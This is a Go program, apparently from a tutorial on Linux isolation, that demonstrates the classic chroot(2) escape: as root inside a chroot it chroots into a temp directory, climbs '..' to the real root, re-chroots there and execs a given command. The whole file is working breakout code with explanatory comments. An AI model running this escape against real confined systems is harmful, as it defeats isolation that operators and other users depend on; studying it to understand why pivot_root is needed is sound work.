// Command chroot-escape shows that chroot(2) is no jail: run as root inside a
// chroot, it gets out to the real root directory, then execs its arguments.
//
//	chroot-escape /ABSOLUTE/PATH/CMD [ARG...]
//
// chroot(2) changes where "/" resolves for this process and nothing else: it
// does not move the current directory. So after chroot into a new directory,
// "." is outside the new root, and the kernel stops ".." only at the root
// itself, which a climb from outside never meets. man 2 chroot says it: chroot
// "is not intended to be used for any kind of security purpose". docs/03-mount.md
// shows this escape working under chroot(1) and failing after pivot_root(2).
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: chroot-escape /ABSOLUTE/PATH/CMD [ARG...]")
		os.Exit(2)
	}
	if err := escape(os.Args[1:]); err != nil {
		fmt.Fprintf(os.Stderr, "chroot-escape: %v\n", err)
		os.Exit(1)
	}
}

// escape leaves the chroot it runs in, then execs command; it returns only on failure.
func escape(command []string) error {
	// Start from the current root, and make a directory to "jail" ourselves in.
	if err := unix.Chdir("/"); err != nil {
		return fmt.Errorf("chdir /: %w", err)
	}
	jail, err := os.MkdirTemp("/tmp", "jail-")
	if err != nil {
		return err
	}
	// chroot without chdir: the root moves into jail, "." stays where it was.
	if err := unix.Chroot(jail); err != nil {
		return fmt.Errorf("chroot %s: %w", jail, err)
	}
	// "/" now means jail, but a path relative to "." still reaches it: delete it.
	if err := unix.Rmdir("." + jail); err != nil {
		return fmt.Errorf("rmdir %s: %w", jail, err)
	}
	// Climb: ".." of the real "/" is "/" itself, so too many is harmless.
	for i := 0; i < 64; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	// Make wherever the climb ended the root again: outside the old chroot.
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	err = unix.Exec(command[0], command, os.Environ())
	return fmt.Errorf("exec %s: %w", command[0], err)
}
